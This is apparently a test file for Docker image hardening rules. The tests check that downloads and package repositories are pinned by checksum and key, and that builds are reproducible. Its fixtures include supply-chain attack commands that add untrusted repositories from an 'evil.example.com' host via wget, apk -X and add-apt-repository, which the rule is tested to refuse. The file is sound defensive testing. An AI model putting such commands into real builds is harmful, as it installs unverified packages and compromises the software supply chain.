import { RuleSubject, Testing, type Manifest } from '../../../../src';
import { hardeningRule } from '../../../../src/rules';
import { soundImage } from '../support';

const SHA256 = 'a'.repeat(64);
const OTHER = 'b'.repeat(64);

const app = Testing.app();
soundImage(app);
const FACTS = Testing.synth(app).manifest.images.shop!;
const BASE = FACTS.architectures.amd64!.base;
const FROM = `FROM ${BASE.reference}@${BASE.digest} AS base\n`;

type Facts = Manifest['images'][string];

/** What a rule finds in a Dockerfile, and in scripts of the context by their paths. */
function found(
  id: string,
  dockerfile: string,
  {
    downloads = [],
    scripts = {},
    ...facts
  }: Partial<Facts> & {
    downloads?: Facts['architectures'][string]['downloads'];
    scripts?: Record<string, string>;
  } = {},
): string[] {
  const rule = hardeningRule(id)!;
  const files = Object.entries({ Dockerfile: dockerfile, ...scripts });
  const subject = new RuleSubject(
    'shop',
    { ...FACTS, ...facts, architectures: { amd64: { ...FACTS.architectures.amd64!, downloads } } },
    files.map(([path, content]) => ({ path: `amd64/${path}`, content, executable: false })),
  );
  return 'check' in rule ? rule.check(subject).map(({ file, what }) => (file ? `${file}: ${what}` : what)) : [];
}

describe('SC-001', () => {
  const locked = (dockerfile: string, more: Parameters<typeof found>[2] = {}) =>
    found('SC-001', FROM + dockerfile, more);
  const TOOL = { url: 'https://example.com/tool', sha256: SHA256 };

  test.each(['live', 'snapshot:20260101T000000Z'])('knows the source of packages %s', (packageSource) => {
    expect(locked('', { packageSource })).toEqual([]);
  });

  test.each([
    'snapshot:2026',
    'snapshot:20260101T000000Z2',
    'x snapshot:20260101T000000Z',
    'snapshot:yyyymmddT000000Z',
    'snapshot:20260101Thhmmss',
    '',
  ])('knows no source of packages %j', (packageSource) => {
    expect(locked('', { packageSource })).toEqual([
      `the source of packages ${JSON.stringify(packageSource)} is neither live nor a snapshot`,
    ]);
  });

  test('lets a download pass that is in the manifest with its checksum', () => {
    expect(locked(`ADD --checksum=sha256:${SHA256} ${TOOL.url} /tool\n`, { downloads: [TOOL] })).toEqual([]);
    expect(locked('COPY --from=base /a /b\nRUN true\nLABEL a="https://example.com/x"\n')).toEqual([]);
    expect(locked('ADD files/ssh://x files/git@x /files/\n')).toEqual([]);
  });

  test.each([
    ['another checksum', `--checksum=sha256:${OTHER} https://example.com/tool`],
    ['another address', `--checksum=sha256:${SHA256} https://example.com/other`],
    ['no checksum', 'https://example.com/tool'],
    ['a checksum of another kind', `--checksum=x-sha256:${SHA256} https://example.com/tool`],
    ['a repository of git', 'git@example.com:tool.git'],
  ])('refuses a download with %s', (_, words) => {
    const source = words.split(' ').at(-1);
    expect(locked(`ADD ${words} /tool\n`, { downloads: [TOOL] })).toEqual([
      `amd64/Dockerfile:2: ADD ${source} is not in the manifest with this checksum`,
    ]);
  });

  test('names the file of a frontend', () => {
    expect(found('SC-001', `# syntax=docker/dockerfile:1\n${FROM}`)).toEqual([
      'amd64/Dockerfile: the frontend docker/dockerfile:1 is not in the manifest',
    ]);
  });

  const KEY = { url: 'https://packages.example.com/key.asc', sha256: SHA256 };

  test.each([
    [
      'a list that is fetched',
      'wget -O /etc/apt/sources.list.d/own.list https://evil.example.com/a',
      'https://evil.example.com/a',
    ],
    ['apk -X', 'apk add -X https://evil.example.com/v1 tool', 'https://evil.example.com/v1'],
    ['apk --repository', 'apk add --repository https://evil.example.com/v2 tool', 'https://evil.example.com/v2'],
    [
      'a list that is written through pipes',
      "printf 'deb https://evil.example.com/ x main' | cat | tee /etc/apt/sources.list.d/own.list",
      'https://evil.example.com/',
    ],
    ['add-apt-repository', 'add-apt-repository ppa:evil/php', 'ppa:evil/php'],
  ])('refuses packages of a repository without a key: %s', (_, command, url) => {
    const what = `packages of ${url}: no key of this repository is in the manifest`;
    expect(locked(`RUN ${command}\n`)).toEqual([expect.stringContaining(what)]);
    expect(locked(`RUN ${command}\n`, { downloads: [KEY] })).toEqual([expect.stringContaining(what)]);
  });

  test('lets packages pass whose key is a locked download of the same host', () => {
    const known = 'echo "deb https://packages.example.com/php x main" >/etc/apt/sources.list.d/php.list';
    expect(locked(`RUN ${known}\n`, { downloads: [KEY] })).toEqual([]);
    expect(locked('RUN apk add -X https://packages.example.com/v1 tool\n', { downloads: [KEY] })).toEqual([]);
  });

  test('does not take every address for a repository', () => {
    expect(locked('RUN echo "deb https://example.com/ x main" >/etc/motd\n')).toEqual([]);
    const before = 'printf "deb https://example.com/ x main" | cat; true | tee /etc/apt/sources.list.d/own.list';
    expect(locked(`RUN ${before}\n`)).toEqual([]);
    expect(locked('RUN own --xX-X https://example.com/\n')).toEqual([]);
    expect(locked('RUN own -Xy https://example.com/\n')).toEqual([]);
    expect(locked('RUN own https://example.com/ -X\n')).toEqual([expect.stringContaining('packages of')].slice(1));
  });
});

describe('SC-002', () => {
  const chance = (script: string) => found('SC-002', FROM, { scripts: { 'scripts/own.sh': script } });

  test.each([
    ['openssl rand -hex 16 >"$rootfs/etc/salt"', 'openssl rand gives something else each time'],
    ['openssl genrsa 2048 >"$rootfs/etc/key"', 'openssl genrsa gives something else each time'],
    ['openssl req -x509 >"$rootfs/etc/cert"', 'openssl req gives something else each time'],
    ['salt=$RANDOM', '$RANDOM differs from build to build'],
    ['cat </proc/uptime', '/proc/uptime differs from build to build'],
    ['date -u +%s', 'date -u +%s: the clock of the builder'],
    ['uuidgen', 'uuidgen gives something else each time'],
  ])('refuses %s', (script, what) => {
    expect(chance(`${script}\n`)).toEqual([expect.stringContaining(what)]);
  });

  test.each([
    'openssl x509 -in a -out b',
    'openssl dgst -sha256 genrsa',
    'date -u -d "@$SOURCE_DATE_EPOCH"',
    'date -r "$rootfs/etc/passwd"',
    'date --reference=/etc/passwd',
    '[ "$(date +%s)" -lt 2000000000 ]',
    'echo /dev/ random',
    'true',
  ])('lets %s pass', (script) => {
    expect(chance(`${script}\n`)).toEqual([]);
  });

  test('looks at the build alone: a clock is welcome where the container runs', () => {
    expect(found('SC-002', FROM, { scripts: { 'config/files/usr/local/bin/own': '#!/bin/sh\ndate\n' } })).toEqual([]);
    expect(found('SC-002', `${FROM}RUN date\n`)).toEqual([expect.stringContaining('the clock of the builder')]);
  });
});
